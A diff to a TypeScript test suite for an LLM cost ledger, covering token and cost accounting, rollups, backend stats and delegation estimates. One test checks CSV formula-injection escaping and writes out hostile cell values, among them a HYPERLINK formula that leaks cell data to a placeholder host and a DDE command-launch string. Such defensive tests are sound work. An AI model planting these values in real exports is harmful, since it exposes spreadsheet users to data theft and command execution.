@@ -104,6 +104,13 @@ function hand(host: string, keep: (s: Scripted) => boolean, key: (s: Scripted) =
   return out;
 }
 
+/** The hand figures plus the late completion of the rollup test (70 + 30 tokens, 800 ms, no overhead). */
+function addLate(h: Sum): Sum {
+  const p = priceOf(RAW.hostModel);
+  const g = (70 * p.input + 30 * p.output) / 1e6;
+  return { ...h, calls: h.calls + 1, ok: h.ok + 1, pt: h.pt + 70, ct: h.ct + 30, ms: h.ms + 800, gross: h.gross + g, local: h.local + 800 * LOCAL_PER_MS };
+}
+
 function expectRow(row: { calls: number; okCalls: number; promptTokens: number; completionTokens: number; overheadTokensIn: number; overheadTokensOut: number; grossUsd: number; overheadUsd: number; localCostUsd: number; netUsd: number }, h: Sum) {
   expect(row.calls).toBe(h.calls);
   expect(row.okCalls).toBe(h.ok);
@@ -186,12 +193,9 @@ describe('Ledger', () => {
     expect(r.overheadTokenMethods).toEqual({ '(not named)': 6, 'estimate:chars/4': 1 });
     expect(r.method).toContain('overhead tokens counted by: (not named) (6), estimate:chars/4 (1)');
     expect(r.decisions).toEqual({ total: 4, byRoute: { cloud: 2, local: 1, local_required: 1 }, forced: 1, sensitive: 1 });
-    // comparisons are computed from the same tokens: flat $0.01 per successful call, and the priciest model
-    expect(r.comparisons.flatPerRequestUsd.usd).toBeCloseTo(h.ok * 0.01, 9);
-    expect(r.comparisons.grossOnlyUsd.usd).toBeCloseTo(h.gross, 9);
-    const priciest = [...RAW.prices].sort((a, b) => b.output - a.output)[0];
-    expect(r.comparisons.mostExpensiveModel.model).toBe(priciest.model);
-    expect(r.comparisons.mostExpensiveModel.grossUsd).toBeCloseTo((h.pt * priciest.input + h.ct * priciest.output) / 1e6, 9);
+    // the user's own figures only: no block naming other products or other ways of counting
+    expect(r).not.toHaveProperty('comparisons');
+    expect(JSON.stringify(r)).not.toMatch(/houtini|LiteLLM|design's source/i);
     // net is really smaller than gross here (overhead and local cost are not zero)
     expect(r.totals.netUsd).toBeLessThan(r.totals.grossUsd);
   });
@@ -282,6 +286,26 @@ describe('Ledger', () => {
     expect(recs.map((x) => x.group)).toContain('team "x", a');
     // ungrouped: one line, no separate total
     expect(parse(ledger.toCsv(ledger.report({})), { columns: true })).toHaveLength(1);
+  });
+
+  it('escapes CSV cells a spreadsheet would run as a formula (agent ids come from tool arguments)', () => {
+    const hostile = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)'];
+    for (const agentId of hostile) ledger.recordCompletion(base({ agentId, promptTokens: 10, completionTokens: 10, route: 'local' }));
+    const r = ledger.report({ period: 'all', groupBy: 'agent' });
+    // ids are trimmed when recorded; a cell starting with a tab or CR is escaped too
+    r.rows.push({ ...r.rows[0], group: '\tTAB' }, { ...r.rows[0], group: '\rCR' });
+    hostile.push('\tTAB', '\rCR');
+    const recs = parse(ledger.toCsv(r), { columns: true, relax_quotes: true }) as Record<string, string>[];
+    for (const agentId of hostile) {
+      const rec = recs.find((x) => x.group === `'${agentId}`);
+      expect(rec, `no escaped cell for ${JSON.stringify(agentId)}`).toBeDefined();
+      // figures stay numbers (a negative net is not text)
+      expect(Number(rec!.calls)).toBe(r.rows.find((x) => x.group === agentId)!.calls);
+    }
+    for (const rec of recs) expect(rec.group).not.toMatch(/^[=+\-@\t\r]/);
+    // a negative number is still written as a number, not escaped
+    const neg = recs.find((x) => Number(x.net_usd) < 0);
+    expect(neg?.net_usd).toMatch(/^-\d/);
   });
 
   it('keeps every figure across a restart (close and reopen the database)', () => {
@@ -411,6 +435,25 @@ describe('Ledger', () => {
     expect(() => ledger.estimate(-1, 0)).toThrow(/inputTokens must be a finite number >= 0/);
   });
 
+  it('estimateDelegation(): host tokens and net dollars of a task done itself, by value and by reference', () => {
+    const p = priceOf(RAW.hostModel);
+    const plain = new Ledger({ db, prices: loadPriceTable() });
+    // a 2,000-token file summarised into 200 tokens; by value the arguments carry it (2,010), by reference a path (20)
+    const v = plain.estimateDelegation({ mode: 'value', materialTokens: 2000, argsTokens: 2010, resultTokens: 260, answerTokens: 200 });
+    const r = plain.estimateDelegation({ mode: 'reference', materialTokens: 2000, argsTokens: 20, resultTokens: 260, answerTokens: 200 });
+    const self = (2000 * p.input + 200 * p.output) / 1e6;
+    expect(v.self.usd).toBeCloseTo(self, 10);
+    // by value the host still reads the file (to paste it), writes it, and reads the result
+    expect(v.delegated).toMatchObject({ inputTokens: 2260, outputTokens: 2010 });
+    expect(v.netUsd).toBeCloseTo(self - (2260 * p.input + 2010 * p.output) / 1e6, 10);
+    expect(r.delegated).toMatchObject({ inputTokens: 260, outputTokens: 20 });
+    expect(r.netUsd).toBeCloseTo(self - (260 * p.input + 20 * p.output) / 1e6, 10);
+    expect(r.avoidedHostInputTokens).toBe(2000);
+    expect(v.netUsd).toBeLessThan(0);
+    expect(r.netUsd).toBeGreaterThan(0);
+    expect(() => plain.estimateDelegation({ ...r, mode: 'paste' as never })).toThrow(/mode must be "value" or "reference"/);
+  });
+
   it('tells listeners when something was recorded', () => {
     let n = 0;
     const off = ledger.onChange(() => n++);
@@ -419,6 +462,113 @@ describe('Ledger', () => {
     off();
     ledger.recordCompletion(base({}));
     expect(n).toBe(2);
+  });
+
+  it('records how the input came (by value or by reference) and shows the two apart, with the host input avoided', () => {
+    const p = priceOf(RAW.hostModel);
+    now = NOW - 10 * 60_000;
+    // by reference: the host wrote a path (40 tokens of arguments) and did not read the 6,000-token file
+    ledger.recordCompletion(base({ promptTokens: 6100, completionTokens: 250, latencyMs: 3000, overheadTokensIn: 260, overheadTokensOut: 40, inputMode: 'reference', avoidedHostInputTokens: 6000 }));
+    ledger.recordCompletion(base({ promptTokens: 0, completionTokens: 0, overheadTokensIn: 30, overheadTokensOut: 40, inputMode: 'reference', avoidedHostInputTokens: 6000, ok: false, error: 'x' }));
+    // by value: the host pasted the same material into the call
+    ledger.recordCompletion(base({ promptTokens: 6100, completionTokens: 250, latencyMs: 3000, overheadTokensIn: 260, overheadTokensOut: 6030, inputMode: 'value' }));
+    now = NOW;
+    const r = ledger.report({ period: 'hour' });
+    const ref = r.byInputMode.reference;
+    const val = r.byInputMode.value;
+    expect(ref).toMatchObject({ calls: 2, okCalls: 1, avoidedHostInputTokens: 6000, overheadTokensOut: 80 });
+    expect(ref.avoidedHostInputUsd).toBeCloseTo((6000 * p.input) / 1e6, 10);
+    expect(val).toMatchObject({ calls: 1, avoidedHostInputTokens: 0, overheadTokensOut: 6030 });
+    // calls recorded without a mode stay apart
+    expect(r.byInputMode['(not given)'].calls).toBe(r.totals.calls - 3);
+    expect(r.totals.avoidedHostInputTokens).toBe(6000);
+    // the avoided reading is part of gross (the local model read the material instead), not added twice
+    expect(ref.grossUsd).toBeCloseTo((6100 * p.input + 250 * p.output) / 1e6, 10);
+    expect(ref.netUsd).toBeGreaterThan(0);
+    expect(val.netUsd).toBeLessThan(ref.netUsd);
+    expect(r.method).toMatch(/by reference/);
+    // CSV carries the avoided tokens; a rollup keeps the split
+    const csv = parse(ledger.toCsv(ledger.report({ period: 'all', groupBy: 'model' })), { columns: true }) as Record<string, string>[];
+    expect(Number(csv.find((x) => x.group === 'total')!.avoided_host_input_tokens)).toBe(6000);
+    const before = ledger.report({ period: 'all' }).byInputMode;
+    now = NOW + 5 * D;
+    ledger.rollup({ olderThanDays: 1 });
+    expect(ledger.report({ period: 'all' }).byInputMode).toEqual(before);
+    // bad values are refused with what to fix
+    expect(() => ledger.recordCompletion(base({ inputMode: 'file' as never }))).toThrow(/inputMode must be "value" or "reference"/);
+    expect(() => ledger.recordCompletion(base({ inputMode: 'value', avoidedHostInputTokens: 10 }))).toThrow(/avoidedHostInputTokens applies to inputMode "reference"/);
+    expect(() => ledger.recordCompletion(base({ inputMode: 'reference', avoidedHostInputTokens: -1 }))).toThrow(/avoidedHostInputTokens must be a finite number >= 0/);
+  });
+
+  it('live backend stats: counts from counters of every process (kept across rollups), percentiles of the newest calls', () => {
+    const db2 = openDatabase(file, migrations);
+    try {
+      const other = new Ledger({ db: db2, prices: loadPriceTable(), now: () => now });
+      other.recordCompletion(base({ latencyMs: 700, tokensPerSecond: 10 }));
+      other.recordCompletion(base({ backend: 'openai-http', model: 'llama-small', ok: false, error: 'HTTP 500' }));
+      const live = ledger.liveBackendStats();
+      const gguf = live.find((x) => x.backend === 'gguf')!;
+      expect(gguf).toMatchObject({ model: 'qwen-tiny', calls: 6, errors: 1 });
+      expect(live.find((x) => x.backend === 'openai-http')).toMatchObject({ model: 'llama-small', calls: 3, errors: 1 });
+      // percentiles: successful gguf calls of the last 7 days, newest first 700, 500, 6000, 2500 (9000 is 40 days old)
+      expect(gguf).toMatchObject({ latencyP50: 700, latencyP99: 6000 });
+      expect(ledger.liveBackendStats(2)[0]).toMatchObject({ calls: 6, latencyP50: 500, latencyP99: 700 });
+      expect(other.liveBackendStats()).toEqual(live);
+      other.rollup({ olderThanDays: 1 });
+      expect(ledger.liveBackendStats().map((x) => [x.backend, x.calls, x.errors])).toEqual([['gguf', 6, 1], ['openai-http', 3, 1]]);
+    } finally {
+      db2.close();
+    }
+  });
+
+  it('rolls rows past the retention age up by UTC day, and every report keeps its totals', () => {
+    // a decision older than the cut-off whose completion is newer: its route must still group that completion
+    now = NOW - 5 * D;
+    ledger.recordDecision({ decisionId: 'dec-late', route: 'local_required', strategy: 'privacy_first', complexityLevel: 'low', complexityScore: 0.1, sensitive: true, privacyCategories: ['email', 'email'], reasons: ['kept local', 'kept local'], estimatedInputTokens: 10, estimatedOutputTokens: 10, latencyMs: 1, forced: false });
+    now = NOW - H;
+    ledger.recordCompletion(base({ promptTokens: 70, completionTokens: 30, latencyMs: 800, decisionId: 'dec-late', tokensPerSecond: 20 }));
+    now = NOW;
+    const groupBys = ['none', 'model', 'route', 'strategy', 'agent', 'day'] as const;
+    const windows = [{ period: 'all' as const }, { period: 'month' as const }, { period: 'week' as const }, { from: '2026-11-11', to: '2026-11-19' }, { from: '2026-10-01' }];
+    const snapshot = () => ({
+      reports: windows.flatMap((w) => groupBys.map((groupBy) => ledger.report({ ...w, groupBy }))),
+      timeseries: ledger.timeseries({ period: 'all', bucket: 'day' }),
+      decisions: (({ decisionLatencyP50Ms: _, ...rest }) => rest)(ledger.decisionStats()),
+      backends: ledger.backendStats().map((b) => ({ backend: b.backend, model: b.model, calls: b.calls, errors: b.errors })),
+    });
+    const before = snapshot();
+    const rows = () => (db.prepare('SELECT (SELECT count(*) FROM ledger_completions) + (SELECT count(*) FROM ledger_decisions) AS n').get() as { n: number }).n;
+    const rowsBefore = rows();
+
+    // keep 2 days: everything before 2026-11-19T00:00Z is rolled up (the script has entries 40, 10, 5 and 3 days old)
+    const r = ledger.rollup({ olderThanDays: 2 });
+    expect(r.completions).toBe(4);
+    expect(r.decisions).toBe(2); // dec-1 and dec-4; dec-late stays while its completion is raw
+    expect(rows()).toBe(rowsBefore - 6);
+    expect((db.prepare('SELECT min(ts) AS t FROM ledger_completions').get() as { t: number }).t).toBeGreaterThanOrEqual(Date.parse('2026-11-19T00:00:00Z'));
+    expect(snapshot()).toEqual(before);
+    // the hand calculation still holds after the rollup
+    expectRow(ledger.report({ period: 'all' }).totals, addLate(hand(RAW.hostModel, () => true).get('all')!));
+
+    // idempotent, and another connection (another process) sees the same figures and finds nothing left to roll up
+    expect(ledger.rollup({ olderThanDays: 2 })).toMatchObject({ completions: 0, decisions: 0 });
+    const db2 = openDatabase(file, migrations);
+    try {
+      const other = new Ledger({ db: db2, prices: loadPriceTable(), localCost: LOCAL, now: () => now });
+      expect(other.rollup({ olderThanDays: 2 })).toMatchObject({ completions: 0, decisions: 0 });
+      expect(other.report({ period: 'all', groupBy: 'route' })).toEqual(before.reports[2]);
+      // rolling everything up (the late completion too, then its decision) keeps the totals
+      now = NOW + 3 * D;
+      expect(other.rollup({ olderThanDays: 1 })).toMatchObject({ completions: 4 });
+      expect((db.prepare('SELECT count(*) AS n FROM ledger_completions').get() as { n: number }).n).toBe(0);
+      expect((db.prepare('SELECT count(*) AS n FROM ledger_decisions').get() as { n: number }).n).toBe(0);
+      for (const groupBy of groupBys) expect(ledger.report({ period: 'all', groupBy }), groupBy).toEqual({ ...before.reports[groupBys.indexOf(groupBy)], to: new Date(now).toISOString() });
+      expect((({ decisionLatencyP50Ms: _, ...rest }) => rest)(ledger.decisionStats())).toEqual(before.decisions);
+      expect(ledger.decisionStats().privacyCatches.byCategory.email).toBe(2); // once per decision, as before
+    } finally {
+      db2.close();
+    }
+    expect(() => ledger.rollup({ olderThanDays: 0 })).toThrow(/olderThanDays must be a whole number of days >= 1/);
   });
 });
 
